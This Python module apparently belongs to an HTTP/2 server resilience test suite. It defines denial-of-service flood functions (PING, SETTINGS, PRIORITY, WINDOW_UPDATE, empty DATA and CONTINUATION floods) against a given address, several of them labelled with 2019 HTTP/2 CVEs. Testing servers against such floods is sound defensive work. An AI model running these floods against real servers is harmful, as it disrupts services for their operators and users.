"""Frames that cost the server something and mean nothing."""

import struct

from wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PADDED, PING, PRIORITY, SETTINGS,
    WINDOW_UPDATE, Attacker, flood, frame, request_block,
)  # fmt: skip

OPEN = frame(HEADERS, END_HEADERS, 1, request_block("Collect"))


def ping(address, turns=5_000):
    """CVE-2019-9512, from a peer that reads the answers."""
    return flood(address, lambda n: frame(PING, payload=struct.pack(">Q", n)), turns)


def ping_unread(address, turns=300_000):
    """The same, from a peer that reads nothing: the answers would pile up."""
    with Attacker(address, receive_buffer=4096, timeout=5) as attacker:
        batch = frame(PING, payload=bytes(8)) * 50
        for _ in range(0, turns, 50):
            if not attacker.send(batch, 50):
                break
        return attacker.wait_for_end()


def settings(address, turns=5_000):
    """CVE-2019-9515."""
    return flood(address, lambda n: frame(SETTINGS), turns)


def settings_window_churn(address, turns=5_000):
    """Each SETTINGS walks every open stream."""
    streams = b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, request_block("Collect")) for n in range(200))
    entry = lambda n: struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535 + n % 2)  # noqa: E731
    return flood(address, lambda n: frame(SETTINGS, payload=entry(n)), turns, begin=streams)


def settings_acks(address, turns=5_000):
    """Acknowledgements of nothing."""
    return flood(address, lambda n: frame(SETTINGS, ACK), turns)


def priority(address, turns=5_000):
    """CVE-2019-9513."""
    return flood(address, lambda n: frame(PRIORITY, 0, 2 * n + 1, bytes(5)), turns)


def window_update(address, turns=5_000):
    """One byte at a time."""
    return flood(address, lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), turns)


def empty_data(address, turns=5_000):
    """CVE-2019-9518."""
    return flood(address, lambda n: frame(DATA, 0, 1), turns, begin=OPEN)


def padded_data(address, turns=5_000):
    """DATA of padding alone."""
    return flood(address, lambda n: frame(DATA, PADDED, 1, b"\x05" + bytes(5)), turns, begin=OPEN)


def empty_continuations(address, turns=5_000):
    """CONTINUATION frames without an end, and with nothing in them."""
    begin = frame(HEADERS, 0, 1, request_block())
    return flood(address, lambda n: frame(CONTINUATION, 0, 1), turns, begin=begin)


def unknown_frames(address, turns=5_000):
    """Frames of a type that nobody knows."""
    return flood(address, lambda n: frame(0xFA, 0, 0, b"x"), turns)


ALL = [
    ping, ping_unread, settings, settings_window_churn, settings_acks, priority, window_update, empty_data,
    padded_data, empty_continuations, unknown_frames,
]  # fmt: skip
